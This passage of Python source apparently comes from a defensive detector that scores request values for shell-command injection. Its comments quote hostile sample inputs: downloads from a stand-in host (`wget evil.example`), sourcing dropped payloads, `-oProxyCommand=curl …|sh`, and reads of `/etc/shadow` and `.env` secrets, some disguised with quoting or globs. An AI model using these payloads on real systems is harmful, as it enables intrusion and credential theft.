            if _TECH_VERSION.match(t):
                if c not in _NOUN_TOOLS:
                    return False  # `sleep 5`, `kill 1`: a program and its operand
            elif _cmd_name(t.lower()) is not None or "." in t or "/" in t or \
                    not (c in _NOUN_TOOLS or head[:1].isupper()):
                return False  # `wget evil.example`, `rm logs`
    return plain >= 1


# Search-engine syntax in a search box: upper-case `OR`/`AND`/`NOT` between words, `-word` exclusions and `+word`
# requirements, quoted phrases. An exclusion right after a program's name is that program's option (`powershell
# -noprofile whoami`), and the word after an exclusion must name no program.
_SEARCH_PHRASE: Final = re.compile(r"\"[a-z0-9 \-]{1,60}\"", re.I)
_SEARCH_OP: Final = re.compile(r"^(?:OR|AND|NOT)$")
_SEARCH_EXCLUDE: Final = re.compile(r"^[-+][a-z][a-z0-9]{2,}$", re.I)
_SEARCH_WORD: Final = re.compile(r"^[a-z0-9]+(?:-[a-z0-9]+)*[.,!?]?$", re.I)


def _search_syntax(value: str) -> bool:
    phrased = _SEARCH_PHRASE.sub(" phrase ", value)
    toks = phrased.split()
    if not toks or len(toks) > 16:
        return False
    op = phrased != value
    for i, t in enumerate(toks):
        if _SEARCH_OP.match(t):
            op = True
        elif _SEARCH_EXCLUDE.match(t):
            if i == 0 or _cmd_name(toks[i - 1].lower()) is not None or \
                    i + 1 < len(toks) and _cmd_name(toks[i + 1].lower()) is not None:
                return False
            op = True
        elif not _SEARCH_WORD.match(t):
            return False
    return op


# `getent shadow`, `getent passwd www-data`: a lookup in the account databases, whole; in a search box too (a search
# about it has more words: `getent passwd not showing ldap users`, `getent group tutorial`).
_ACCOUNT_LOOKUP: Final = re.compile(r"^\s*getent\s+(g?shadow|passwd|group)(?:\s+([a-z_][\w.\-]{0,31}))?\s*$", re.I)


def _account_lookup(value: str) -> bool:
    m = _ACCOUNT_LOOKUP.match(value)
    if m is None:
        return False
    key = (m.group(2) or "").lower()
    if not key:
        return m.group(1).lower() != "passwd" and m.group(1).lower() != "group"
    return key not in _FUNCTION_WORDS and key not in _TOPIC and key not in _SYMPTOM


def _secret_read(args: list[str]) -> bool:
    """A secret file among the arguments and no English word after it (`use a .env file; source .env is fine` is a
    sentence about the file)."""
    for i, a in enumerate(args):
        if _SECRET_FILE.match(a):
            return not any(_PROSE_WORD.match(b) for b in args[i + 1:])
    return False


# A program piped into by path: one in a directory of the file system's top level, where programs live or files can be
# dropped (`|/tmp/x`, `|/home/www/up/s.pl`); `python3|/user/anna/lab/tree/x` names a notebook's URL path, not a file.
_PIPE_PATH: Final = re.compile(r"^/(?:etc|bin|usr|tmp|dev|proc|var|home|root|sbin|opt|sys|boot|lib\w*|srv|mnt|media|run|"
                               r"snap|private|applications|users|windows)\b", re.I)


_WIN_KEY_WORDS: Final = tuple(k for k in _WIN_KEYS if k != "%")
_PCT_NAME: Final = re.compile(r"%[a-z_]")


def _win_keys(low: str) -> bool:
    """One of _WIN_KEYS (`%` followed by a name) is in `low`. Substring tests: the regex alternation of the keys,
    used before, scanned every position of the value (4.3 µs on a line of prose; tests/detect/test_tokenizer_shortcuts.py
    compares both)."""
    for k in _WIN_KEY_WORDS:
        if k in low:
            return True
    return "%" in low and _PCT_NAME.search(low) is not None


def analyze(value: str, depth: int = 0, role: str = "") -> Finding | None:
    """`role`: what the parameter holding the value is for, from its name (param_role): "search" or "command"."""
    table = False
    if "|" in value and "\n" in value and "-" in value and _TABLE_DELIM.search(value):
        t = _md_tables(value)  # `| Name | Result |` over `|---|---|`: cell borders, not pipes
        if t != value:
            value, table = t, True
    if "{" in value and ("{|" in value or "{{" in value):
        value = _wiki_markup(value)  # `{| … !! … |}` tables and `{{#if: {{{x|}}} | … }}` templates
    if "\n" in value:
        if "@@" in value and _DIFF_START.match(value):
            value = _unified_diff(value)  # `+`/`-` lines and headers of a patch: no line is a command
        if _DEAD_CHAIN.search(value):
            docker = value.lstrip()[:1] in ("F", "#", "A") and _DOCKERFILE.match(value) is not None
            value = _DEAD_CHAIN.sub(lambda m: _kill_chain(m, docker), value)  # `\nRUN a && b`: `b` never runs
        if _CAP_HEAD.search(value):
            value = _CAP_HEAD.sub(_mark_cap_head, value)  # `\n  File "x.py", line 3`: `File` is no program
    if "at" in value and _STACK_FRAME.search(value):
        value = _STACK_FRAME.sub(lambda m: m.group(1) + _TABLE_MARK + m.group(2), value)  # `\n    at f (x.js:1:2)`
    if "PHP " in value and _PHP_LOG_HEAD.search(value):
        value = _PHP_LOG_HEAD.sub(lambda m: m.group(1) + _TABLE_MARK + m.group(2), value)  # `PHP Warning:  …`
    spans: list[Finding] = []
    if depth == 0 and "`" in value and "```" not in value and "\n    " not in value and "\n\t" not in value and \
            _markdown_code(value.lower(), table):
        # Inline code spans in a sentence (`Suggest `rm -rf node_modules && npm ci` in the CI step`): each span is read
        # on its own and the sentence without them. A command there is what a reader is shown, reported below 0.5 as a
        # lone span command always was; a download piped into a shell or a reverse shell keeps its score.
        for span in _CODE_SPAN.finditer(value):
            f = analyze(span.group()[1:-1], 1)
            if f is not None and f.score >= 0.5:
                keep = f.rule in _SPAN_KEEP or _SPAN_DANGER.search(span.group().lower()) is not None
                spans.append(f if keep else Finding(TYPE, "rce:command_substitution", 0.45))
            elif (ws0 := words(normalize(span.group()[1:-1]), 2)) and _cmd_name(ws0[0][1]) is not None:
                spans.append(Finding(TYPE, "rce:command_substitution", 0.45))  # `run `id` to see`: reported
        # each span becomes a line of its own holding a neutral word: a separator stays between the sentence's words
        # on either side (`in the CI step; id` after a span is no phrase of plain words)
        value = _CODE_SPAN.sub("\n" + _TABLE_MARK, value)
    low = value.lower()
    best = (0.0, "")
    for f in spans:
        if f.score > best[0]:
            best = (f.score, f.rule)
    query = _query_pipeline(value) if "|" in value else False
    formula = bool(_FORMULA.match(value))

    def take(sc: float, rule: str) -> None:
        nonlocal best
        if sc > best[0]:
            best = (sc, rule)

    if "(" in low and _SHELLSHOCK.search(low):
        if any(not _NAMED_FUNC.search(low, 0, m.start()) for m in _SHELLSHOCK.finditer(low)):
            take(0.98, "rce:shellshock")
        elif _FORK.search(low):
            take(0.9, "rce:shell_function")
    elif low.lstrip().startswith("(") and _SHELLSHOCK_START.match(low):
        take(0.85, "rce:shellshock")
    if "bin/" in low and _BIN_PATH.search(low):
        take(0.8, "rce:bin_path")
    if "/dev/" in low or "-e" in low or "-i" in low or "0<&" in low or "mkfifo" in low:
        if _DEV_TCP.search(low):
            take(0.95, "rce:reverse_shell")
    if ("if" in low or "for" in low) and (_WIN_FLOW.search(low) or _WIN_IF_CUT.match(low)):
        take(0.85, "rce:cmd_flow")
    if ("GET" in value or "HEAD" in value or "POST" in value or "lwp-" in value) and _LWP_REQUEST.search(value):
        take(0.85, "rce:lwp_request")
    if ("\\" in low) and _WIN_PROGRAM.search(low):
        take(0.85, "rce:windows_program")  # `& \\host\share\x.exe`, `| "C:\…\bash.exe" -c id`
    if _win_keys(low):
        if _WIN_MISC.search(low):
            take(0.85, "rce:windows")
        elif _WIN_WEAK.search(low):
            # a cmdlet or system path with options, a pipe, a chained command or a target (URL, drive path, script)
            # beside it is a command line, not a question
            fields = low
            if "\n" in low and ":" in low and _KV_RECORD.fullmatch(low):
                # `Faulting module path: C:\Windows\System32\ntdll.dll\nReport Id: …`: every line is a field of a
                # record (an event log, a crash report); the newline ends a field and the path is its value
                fields = "\0".join(_KV_VALUE.findall(low))
            take(0.8 if _WIN_CONTEXT.search(_WIN_WEAK.sub(" ", fields, count=1)) and not _win_sentence(fields) else 0.4,
                 "rce:windows")
    s = normalize(value)
    if "data:" in s and ";base64" in s:
        s = _DATA_URI_HEAD.sub(" ", s)  # `data:image/png;base64,…`: that `;` separates media-type parameters
    if "&" in s and ";" in s:
        s = _TEXT_ENTITY.sub(" ", s)  # `&copy; 2024`: a named character reference in text, not `&` + `copy` + `;`
    markup_start = False
    if "</" in s and _HTML_TAG.search(s):
        # `<pre><code>npm install x</code>`: to a shell the opening tag is `<pre` (input from a file that is not there)
        # and `>npm` an output file, so the first word of a value that opens with a tag is never a program it runs
        markup_start = _HTML_TAG.match(s.lstrip()) is not None
        s = _HTML_TAG.sub(" ", s)  # `<ul><li>…</li></ul>`: markup, not redirections into programs named like tags
    if "```" in s:
        s = _FENCE.sub("\n", s)
    if "=" in s and "$" in s:
        s = _substitute(s)
    ws = words(s)
    if "$" in s:
        ws = _drop_empty_vars(ws, s)
    prev_word_cmd = False
    prefixed = False
    aliases: dict[str, str] = {}
    cmd_sets: list[list[str]] = []  # the names the value `set`s for cmd.exe, once asked (see _cmd_var_run)
    for idx, (sep, w) in enumerate(ws):
        if "=" in w and not w.startswith("="):
            k, _, v = w.partition("=")
            if _cmd_name(v) is not None and k.replace("_", "").isalnum():
                aliases[k] = _cmd_name(v)  # type: ignore[assignment]
        name = _cmd_name(w, aliases)
        if name is None and w in _AFTER_SEPARATOR and sep in _CHAIN_SEPS:
            name = w  # `x|git config --list`: a program a separator put in command position
        is_cmd_pos = bool(sep) or idx == 0
        if w == "." and is_cmd_pos and idx + 1 < len(ws) and not ws[idx + 1][0] and _SOURCED.match(ws[idx + 1][1]):
            # `x; . /tmp/payload.sh`, `$(. /tmp/x)`: the `.` builtin runs the file in the shell (an upload, a dropped file)
            take(0.95 if sep in ("$(", "`") else 0.85 if sep in _SOURCE_SEPS else 0.7, "rce:dot_source")
            continue
        if sep in (";", "|", "||", "&&", "\n", "&", "$(", "`", "(") and idx > 0 and w.startswith("$") and len(w) > 1 and w[1:].replace("_", "").isalnum() \
                and not (sep == "(" and _call_argument(ws[idx - 1][1])):
            take(0.85, "rce:variable_command")  # not `getUserById($id)`: a call's argument (`name($x` is a syntax error to sh)
        at_start = idx == 0 and not markup_start or (prefixed and not sep)
        prefixed = False
        if not is_cmd_pos:
            # `nohup cmd`, `time cmd`, `sudo cmd`, `xargs cmd` run their argument as a command
            if prev_word_cmd and idx > 0 and ws[idx - 1][1] in ("time", "nohup", "sudo", "xargs", "env", "exec",
                                                                     "timeout", "nice", "strace", "watch", "busybox", "doas"):
                is_cmd_pos = True
                at_start = idx == 1 and not markup_start or at_start
            else:
                prev_word_cmd = False
                continue
        prev_word_cmd = name is not None
        if name is not None and sep == "(" and idx > 0 and (_call_argument(ws[idx - 1][1]) or formula and _CALL.match(
                ws[idx - 1][1]) and ws[idx - 1][1][:-1].lstrip("=").rsplit(".", 1)[-1] not in _EXEC_CALLS):
            continue  # `=LET(net, …)`, `def run(cmd):`: an argument of a call; `name(word` is a syntax error to sh
        if name is not None and sep in ("|", "\n", "^", "(") and (name == "where" or query and name in _QUERY_FILTERS) \
                and _query_clause(ws, idx):
            continue  # `| where ts > ago(1h)`, `\nWHERE a >= 1`, `| sort -count`: a query's operator, not a program
        if name is None and idx > 0 and "%" in w and sep in ("|", "||", "&&", "\n", "&") and _cmd_var_run(w, s, cmd_sets):
            take(0.85, "rce:variable_command")  # `x& set a=who& set b=ami& call %a%%b%`: cmd.exe builds the name
        if name is None:
            if sep in (";", "|", "||", "&&", "`", "\n") and idx == 0 and len(ws) > 1 and ws[1][0] == "" and \
                    _OPTION.match(ws[1][1]) and w.replace("-", "").isalpha():
                take(0.7, "rce:leading_separator")
            elif idx > 0 and sep in (";", "|", "||", "&&", "\n", "$(", "`") and _UNKNOWN_PROGRAM.match(w) and best[0] < 0.7:
                # a program the lists do not know, given a command line's arguments: an option and a second
                # option, path, address or URL (`x; restic backup -r /srv/repo`, `x && rlogin 10.0.0.5 -l root`)
                rest = []
                for s2, w2 in ws[idx + 1: idx + 8]:
                    if s2 and s2 != "<":
                        break
                    rest.append(w2)
                opts = [a for a in rest if _OPTION_ARG.match(a)]
                if opts and len([a for a in rest if _OPTION_ARG.match(a) or _TARGET_ARG.match(a)]) >= 2 and \
                        not (sep == "`" and _markdown_code(low, table)):
                    take(0.7, "rce:unknown_command")
            continue
        prefixed = name in ("time", "nohup", "sudo", "xargs", "env", "exec", "timeout", "nice", "strace", "watch", "busybox", "doas") and idx == 0 \
            and not markup_start
        args = []
        for s2, w2 in ws[idx + 1: idx + 8]:
            if s2 and s2 != "<":
                break
            args.append(w2)
        if name in ("call", "start") and args and "%" in args[0] and (idx == 0 or sep in ("|", "||", "&&", "\n", "&")) \
                and _cmd_var_run(args[0], s, cmd_sets):
            take(0.85, "rce:variable_command")  # `call %a%%b%`: the launcher runs the name the variables spell
        if name == "alias" and args and not any("=" in a or a[:1] in ("-", "+") for a in args):
            continue  # `alias /srv/app/static/;` (nginx's directive): `alias` without `=` only looks a name up
        if w == "cmd" and sep == "(" and idx > 0 and _CALL.match(ws[idx - 1][1]) and \
                not any(a[:1] in "/-" for a in args):
            continue  # `subprocess.run(cmd, shell=True)`: the variable code names a command line; cmd.exe needs /c
        # a drive path or a `/switch` after a Windows name that follows a separator (`x; gc c:\…`, `& sfc /scannow`)
        # a secret dotfile (`.env`, `.git-credentials`, `~/.aws/credentials`) read by a command a separator placed
        # there (`x;cat .env`); first in a value it is a topic of a search (`docker compose .env file`)
        shellish = sep not in ("", "^") and _secret_read(args) or \
            any(_SHELLISH_ARG.match(a) for a in args) or bool(sep) and name in WIN and any(
            _DRIVE_ARG.match(a) or _WIN_SWITCH_ARG.match(a) for a in args) or any(
            s2 == "<" or s2 == "|" and (_cmd_name(w2) is not None or not w2 or w2[0] in "$\\.\"'`~" or
                                        _PIPE_PATH.match(w2) is not None)
            for s2, w2 in ws[idx + 1:idx + 3])
        absolute = w.startswith(("/bin/", "/usr/", "/sbin/", "/etc/", "/tmp/", "/opt/")) or "?" in w
        # `sudo id`, `nohup bash`: a prefix command counts as a command line when a program follows it
        runs_next = name in _PREFIX_CMDS and bool(args) and _cmd_name(args[0]) is not None or name in _RUNNERS and \
            _runs_program(args)
        strong = (name in STRONG and name not in PROSE) or (name in WIN_STRONG)
        if name in _EDITORS and (at_start or sep) and any(
                (m_ := _EDITOR_ESCAPE.match(a)) is not None and _cmd_name(m_.group(1)) is not None for a in args):
            take(0.85, "rce:editor_shell_escape")  # `ex x +silent\ !whoami`: an ex command `!cmd` runs a shell
        if name in _PKG_MANAGERS and args and args[0] in _PKG_VERBS and (at_start or sep not in ("", "^")) and not (
                sep == "`" and _markdown_code(low, table)):
            take(0.75, "rce:package_manager")
        inner = _command_string(name, args) if depth < 2 else None
        if inner and len(inner) < len(value):
            f = analyze(inner, depth + 1)
            if f is not None and f.score >= 0.5:
                take(0.85, "rce:nested_command")
        if sep in ("$(", "`"):
            if sep == "`" and _markdown_code(low, table):
                take(0.45, "rce:command_substitution")  # a Markdown code span in a sentence: `use `ls -la` to list`
            elif sep == "`" and len(_BACKTICK_KEYS.findall(low)) >= 2:
                take(0.45, "rce:command_substitution")  # Magento's `conditions_encoded="^[`1`:^[`type`:…`: JSON quoted with backticks
            else:
                take(0.95, "rce:command_substitution")
        elif sep == "(" and idx > 0 and _PROSE_WORD.match(ws[idx - 1][1]) and (
                not _CODE_PUNCT.search(value) or _cmd_name(ws[idx - 1][1]) is None):
            pass  # `nc (netcat) tutorial`: `(` right after a word is a syntax error to the shell, parentheses to a reader
        elif sep == "{" and idx > 0 and not _GROUP.search(s):
            pass  # `{ id name }`: GraphQL selections, JSON, templates; a shell group is `{ cmd; }`
        elif sep in (";", "|", "||", "&&", "\n", ";;", "&", "(", "{") and idx > 0:
            if sep in (";", "&") and not shellish and not absolute and _prose_args(args + [w2 for _, w2 in ws[max(0, idx - 4):idx]]) \
                    and _prose_before(ws, idx):
                pass  # `python is fun; perl too`: a sentence with a semicolon, English words on both sides
            elif strong or absolute:
                take(0.92 if sep != "&" else 0.85, "rce:chained_command")
            elif not args and name in PROSE and idx + 1 < len(ws) and ws[idx + 1][0] == "&" and \
                    _PROSE_WORD.match(ws[idx + 1][1]) and _cmd_name(ws[idx + 1][1]) is None:
                pass  # `…|cat & dog toys`: an English word joined by `&` to another, in a list of phrases
            elif shellish or runs_next or not args and sep != "&" and name not in _ABBREVIATIONS or \
                    args and args[0] in SUBCOMMANDS.get(name, ()):
                take(0.85 if sep != "&" or shellish or args else 0.6, "rce:chained_command")
            elif sep in (";", "|", "&&", "||") and ws[idx - 1][1] == "" and not args:
                take(0.7, "rce:chained_command")
            elif name in _TIMING and len(args) == 1 and _NUMBER_ARG.match(args[0]) and not _prose_before(ws, idx):
                take(0.7, "rce:chained_command")  # `x'; sleep 5`: a delay probe chained after the expected value
        elif sep in (";", "|", "||", "&&", "\n", "&", "`") and idx == 0:
            # value starts with a separator: injection into a command argument
            strong_args = any(_SHELLISH_ARG.match(a) and (not _WEAK_ARG.match(a) or _SENSITIVE_ARG.match(a)) or
                              _DRIVE_ARG.match(a) for a in args) or _secret_read(args)
            if strong or absolute or strong_args or not args:
                take(0.92, "rce:leading_separator")
            elif any(_OPTION.match(a) for a in args[:2]) or args[0] in SUBCOMMANDS.get(name, ()) or \
                    name == "at" and _AT_TIME.match(args[0]) and len(args) > 1:
                take(0.7, "rce:leading_separator")
            elif sep != "&" and any(_WEAK_ARG.match(a) for a in args[:3]):
                take(0.6, "rce:leading_separator")  # `;cat /some/file`: a command on a path after a separator
            elif len(args) <= 2 and all(_NUMBER_ARG.match(a) for a in args):
                take(0.7, "rce:leading_separator")  # `;sleep 5`, `|ping 3`: the timing probes of blind injection
            elif name in _VAR_BUILTINS and any(a.partition("=")[0] in _SHELL_ENV for a in args[:3]):
                take(0.8, "rce:leading_separator")  # `; unset HISTFILE`, `;export PATH=/tmp:$PATH`: the shell's own state
            elif name in _LAUNCHERS and _cmd_name(args[0]) is not None:
                take(0.85, "rce:leading_separator")  # `& start calc`, `| call whoami`: a launcher and the program it runs
            else:
                take(0.45, "rce:leading_separator")
        else:
            if absolute:
                take(0.85, "rce:absolute_command")
            elif strong and idx > 0 and at_start and ws[idx - 1][1] in _PREFIX_CMDS:
                take(0.85, "rce:command_line")
            elif strong and (shellish or args) and at_start and (shellish or runs_next or not _prose_args(args)):
                # `powershell basics`, `passwd command`: a tool's name and one word, nothing else (not even the
                # newline ending a command line) — a search query or a title far more often than a command line;
                # two words (`cscli alerts list`) read as sub-command and argument
                take(0.45 if not shellish and not runs_next and (
                    _TITLE.match(low) and not any((c := _cmd_name(a)) is not None and c not in _ABBREVIATIONS for a in args) or
                    _search_query(name, w, args, ws, idx, value) or _sentence(value) or _heading(value)) else 0.8,
                     "rce:command_line")
            elif strong and idx == 0 and not args and len(ws) == 1 and not _PACKAGE_DIR.match(w):
                take(0.55, "rce:bare_command")
            elif idx == 0 and not args and len(ws) >= 1 and (len(ws) == 1 or ws[1][0] in (";", "|", "||", "&&", "`")) and (
                    name in STRONG and name not in CRS4_UNIX_PROSE or name in ("id", "ls", "pwd", "w", "who", "ps", "env", "set", "dir", "ver", "vol")) and any(c in value for c in ";|`") \
                    and not (name in PROSE and _prose_list(ws[1:])) and not _name_path_pair(name, ws):
                take(0.7, "rce:command_terminated")
            elif idx == 0 and not args and len(ws) == 1 and _NL_TERMINATED.match(value) and (
                    name in STRONG and name not in PROSE or name in _SYSTEM_STATE):
                take(0.6, "rce:command_terminated")  # `shutdown\n`: one command and the newline that runs it
            elif name in PROSE and shellish and at_start:
                take(0.75, "rce:command_line")
    if best[1] in _LIST_RULES and best[0] < 0.95 and _SIGNED_HEADERS.match(value) and _signed_headers(value.split(";")):
        best = (0.0, "")  # `host;x-amz-date`: a signed request's SignedHeaders (AWS SigV4, GCS)
    if best[1] in _LIST_RULES and best[0] < 0.95 and len(ws) >= 3 and (_word_list(ws) or _delimited_table(value)):
        best = (0.0, "")  # `java; python; go`, `WSL; Docker; VS Code`: a list of names, some spelled like programs
    elif best[1] in _TECH_LIST_RULES and best[0] < 0.95 and _tech_list(value):
        best = (0.0, "")  # `PHP 8 / Laravel, JavaScript (ES2022), HTML5 & CSS3`: technologies and their versions
    if best[0] < 0.8 and "$" in low and (m := _VAR_BIN.match(low)) and _cmd_name(m.group(1)) is not None:
        take(0.8, "rce:bin_path")  # `$OLDPWD/../../bin/sh`: a program reached from a variable holding a directory
    if best[0] < 0.8 and "{" in low and "," in low:
        bl = _DOLLAR_QUOTE.sub("", low)
        braces = brace_spans(bl, first_only=True)
        if braces and not bl[:braces[0][0]].strip():
            first = _expand_braces(braces[0][2], braces[0][3], braces[0][4]).split()
            if first and _cmd_name(first[0].strip("'\"")) is not None:
                take(0.8, "rce:brace_expansion")  # {,ip,a} / c{a,oun}t: the expansion's first word is a command
    if best[0] < 0.55 and "~" in low and _TILDE.match(low) and len(low.strip()) >= 2:
        # ~+ ~- ~0: expand to $PWD / $OLDPWD in every shell. `~1`, `~5` name directory-stack entries that a fresh
        # non-interactive shell does not have (they stay literal), and in forms they mean "about five".
        take(0.55, "rce:tilde_expansion")
    if best[0] < 0.6 and "!" in low and _HISTORY.search(low):
        take(0.6, "rce:history_expansion")
    if best[0] < 0.85 and ("<(" in low or ">(" in low) and _proc_subst(low):
        take(0.85, "rce:process_substitution")
    if depth == 0 and "." in low and _DOT_NAME.match(low):
        # a value that is one sqlite3 dot command and nothing else: a parameter or cookie *name* (`a;.dump` in a
        # Cookie header leaves a cookie named `.dump`), counted on names only (engine _KEY_ONLY); as a value it is a
        # CSS class or a file extension (`.tables`, `.output`)
        take(0.85, "rce:sqlite_dot_name")
    elif best[0] < 0.85 and "." in low and _sqlite_dot(low):
        take(0.85, "rce:sqlite_dot_command")
    if best[0] < 0.6 and ("$[" in low or "$((" in low) and not _script_arithmetic(low) and (
            "$((" in low or "$[" in _JSONPATH_ROOT.sub("", low)):
        take(0.6, "rce:arithmetic_expansion")
    if best[0] < 0.8 and "alias" in s and _ALIAS.search(s):  # normalised: `alias$IFS$9a=b`
        take(0.8, "rce:alias")
    elif best[0] < 0.7 and depth == 0 and "alias" in low and _ALIAS_NAME.match(low):
        # `alias l=nc` sent as a cookie or parameter is cut at its `=`: the name `alias l` is the statement's head
        # (no name has a blank in it); counted on names only (engine _KEY_ONLY)
        take(0.7, "rce:alias_name")
    if best[0] < 0.85 and "-" in value:
        for m in ps_candidates(value, 32):
            if not cmdlet_at(value, m):
                continue
            if value[m.start()] in ";|&\n`({$":
                take(0.85, "rce:powershell")  # `; Get-LocalUser`, `| Select-String …`: a cmdlet after a separator
                break
            if PS_FOLLOW.match(value, m.end()):
                take(0.8, "rce:powershell")  # `Get-ChildItem -Recurse C:\`, `Get-Process | …`: a PowerShell line
                break
    if best[0] < 0.85 and "scriptblock" in low and _PS_SCRIPTBLOCK.search(low):
        take(0.85, "rce:powershell")  # `icm -ScriptBlock {whoami}`: PowerShell runs the block (also as a cookie's name)
    if best[0] < 0.85 and "al" in low and (m := PS_ALIAS.search(value)) and (
            _cmd_name(m.group(1).lower()) is not None or (cand := PS_CANDIDATE.match(m.group(1))) and cmdlet_at(m.group(1), cand)):
        take(0.85, "rce:alias")
    if best[0] < 0.85 and "-" in low:
        for m in _EXEC_OPTION.finditer(low) if any(k in low for k in _EXEC_KEYS) else ():
            w = m.group(1)
            if _cmd_name(w) is not None or w.startswith(("/", "./")):
                take(0.85, "rce:exec_option")  # `--checkpoint-action=exec=sh x`, `-oProxyCommand=curl …|sh`
                break
        if best[0] < 0.8 and _REMOTE_SHELL_OPT.match(low):
            take(0.8, "rce:argument_injection")
        if best[0] < 0.7 and low.lstrip().startswith("-"):
            m = _ARG_INJECTION.match(low)
            if m and (m.group(2) or _cmd_name(m.group(1)) is not None and not _prose_args(low[m.end():].split()[:6])):
                take(0.7, "rce:argument_injection")  # `-c id`, `--output=/var/www/html/x.php`: options for the program
        elif best[0] < 0.85 and (m := _URL_THEN_OPTION.match(low)) and (a := _ARG_INJECTION.match(low[m.end():])) \
                and a.group(2):
            # a fetch URL followed by an output option: the downloader (curl/wget) is told to write a server page
            take(0.85, "rce:argument_injection")
    if best[0] < 0.9 and ("%pipe%" in low or "outputfile" in low) and (m := _GS_PIPE.search(low)) and (
            _cmd_name(m.group(1)) is not None or _BIN_PATH.match(m.group(1))):
        take(0.9, "rce:ghostscript_pipe")
    if best[0] < 0.8 and "$" in s and _VAR_COMMAND.match(s):
        take(0.8, "rce:variable_command")
    if best[0] < 0.6 and ("${" in low or ("<(" in low or ">(" in low) and _proc_subst(low)) and _expansion(low):
        take(0.6, "rce:shell_expansion")
    if best[0] < 0.6 and "${" in low and not _placeholder_sentence(low):
        for m in _PLAIN_EXPANSION.finditer(low):
            if m.group(1) in _SHELL_ENV or _cmd_name(m.group(1)) is not None:
                take(0.6, "rce:shell_expansion")  # `${cmd}`, `${PATH}`: a placeholder named for the shell
                break
    if best[0] < 0.8 and depth < 2 and ("\\" in value or "''" in value or '""' in value):
        # The shell drops quoting before it runs anything: `c\at`, `c''at`, `a\lias` mean cat and alias to it, so
        # the value means what its unquoted form means (the checks above that read the raw text see that form here).
        deq = _DEQUOTE.sub("", value)
        if deq != value and deq.strip():
            f = analyze(deq, depth + 1)
            if f is not None:
                take(f.score, f.rule)
    if best[0] < 0.8 and depth < 2 and "^" in value:
        # cmd.exe drops a caret and keeps the character after it: `w^h^o^a^m^i` runs whoami
        unc = _CARET.sub("", value)
        if unc != value:
            f = analyze(unc, depth + 1)
            if f is not None:
                take(f.score, f.rule)
    if best[0] < 0.5 and depth == 0 and "'" in value and _quoted_separator(value):
        # The value usually lands inside a single-quoted argument (`ping '$host'`): its first quote closes that one,
        # so read it as the shell would after the application's opening quote (`a' ; id ; '`).
        f = analyze("'" + value, 2)
        if f is not None:
            take(f.score, f.rule)
    if best[0] < 0.5 and depth == 0 and "'" in value and ("$(" in value or "`" in value):
        # Inside the application's double quotes a `'` is a plain character and `$(…)`, `…` still run: `it's
        # `$(id)` here, don't` pairs its apostrophes into one quoted string only when it lands unquoted.
        f = analyze(value.replace("'", " "), 2)
        if f is not None and f.rule == "rce:command_substitution":
            take(f.score, f.rule)
    if best[0] < 0.8 and depth == 0 and "://" in value and _URL_HEAD.match(value):
        # A URL (a Referer, a link sent as a value) holds values of its own: query and fragment parameters, matrix
        # parameters after `;`, a fragment. Each is read as the value of a parameter of that name would be
        # (`?cmd=c\at /e\tc/shadow`, `/a;x=ca$@t /etc/passwd`, `#w'g'et -O /tmp/x host/x`). Only what the start
        # of a value adds counts: a separator inside one is a separator in the whole URL too, read above with its
        # context (`X-Amz-SignedHeaders=host;x-amz-date`).
        for key, part in _url_parts(value):
            f = analyze(part, 1, param_role(key))
            if f is not None and f.rule in PART_RULES:
                take(f.score, f.rule)
    if best[0] < 0.7 and "/" in value and _glob_system_path(value):
        take(0.7, "rce:glob_path")
    if role == "command" and best[0] < 0.7 and value.strip().lower() in _PARAM_PROBES:
        take(0.7, "rce:command_parameter")  # `cmd=id`: a probe where the application expects a command
    if role == "search" and 0.5 <= best[0] < 0.95 and best[1] in _QUERY_RULES and (
            _PLAIN_WORDS.match(value) or _search_syntax(value)) and not _account_lookup(value):
        # A search box's query naming tools (`awk sed grep tutorial`, `sudo apt install not working`, `ls 460 engine
        # parts`): plain words only — no separator, option, path, address, quote or variable — are what people search
        # for; an injection there needs the shell syntax that makes a word a command (`;id`, `$(id)`, `|sh`). Reported.
        best = (0.45, best[1])
    if best[0] <= 0:
        return None
    return Finding(TYPE, best[1], best[0])


# Separators after which `.` is the source builtin in command position (a new command of the same line or the next).
_SOURCE_SEPS: Final = (";", "|", "||", "&&", "&", "\n", ";;", "(", "{")
# The file `.` reads: a path (absolute, home- or directory-relative, a variable) or a script's name.
_SOURCED: Final = re.compile(r"^(?:/|~[+\-]?\d*/|\.{1,2}/|\$\{?[a-z_]|[\w.\-]+/)|^[\w.\-]+\.(?:sh|bash|zsh|ksh|env|rc|profile|inc)$")
_DOT_NAME: Final = re.compile(r"^[ \t]*\.(?:dump|shell|system|databases|tables|schema|import|output|once|load|read)[ \t]*$")
_ALIAS_NAME: Final = re.compile(r"^[ \t]*alias[ \t]+['\"]?[a-z_][\w.\-]{0,30}[ \t]*$")
# Parameters whose value the application runs as a command, or hands to a search index.
_COMMAND_PARAM: Final = re.compile(r"^(?:[a-z0-9]+[_.\-])?(?:cmd|command|commands|cmdline|command_?line|exec|execute|shell|"
                                   r"shellcmd|syscmd)(?:[_.\-]?(?:line|str|string|text|input|arg|args))?$")
_SEARCH_PARAM: Final = re.compile(r"^(?:q|s|k|kw|wd|qs|query|keywords?|terms?|find|searchterms?|searchquery|searchtext|"
                                  r"(?:[a-z]+[_\-])?search(?:[_\-]?(?:q|term|terms|query|text|string|keywords?|box|input))?)$")
# Programs a probe runs on its own, to see whether a command parameter reaches a shell (`cmd=id`, `{"cmd": "whoami"}`).
# Left out: names that are also an application's own actions for such a parameter (elFinder's `cmd=ls`, `dir`,
# `date`, `last`, `ver`, `vol`), and shells, which a `shell` setting names (a CI runner's `"shell": "bash"`).
_PARAM_PROBES: Final = frozenset(("id", "whoami", "uname", "hostname", "ifconfig", "ipconfig", "printenv", "pwd", "env", "ps",
                                  "who", "groups", "systeminfo", "tasklist", "netstat", "getmac", "nproc"))
PART_RULES: Final = {"rce:command_line", "rce:absolute_command", "rce:command_parameter", "rce:package_manager",
                     "rce:argument_injection", "rce:editor_shell_escape", "rce:nested_command", "rce:dot_source"}
_QUERY_RULES: Final = {"rce:command_line", "rce:package_manager", "rce:bare_command"}
_PLAIN_WORDS: Final = re.compile(r"^[ \t]*[a-z0-9]+(?:-[a-z0-9]+)*(?:[ \t]+[a-z0-9]+(?:-[a-z0-9]+)*[.,!?]?)*[ \t]*$", re.I)


# An absolute path written with shell globs (`/e??/shadow`, `/[e]tc/passwd`, `/pr?c/self/environ`): a glob hides the
# name from a filter and the shell expands it back. Read as fnmatch reads a glob, it must name one of these system
# paths and none of the ordinary ones below (`/*/*` names every path, `/api/v?/items` none of these).
_GLOB_WORD: Final = re.compile(r"(?<![\w/.~-])/[^\s;|&`'\"<>()]{2,255}")
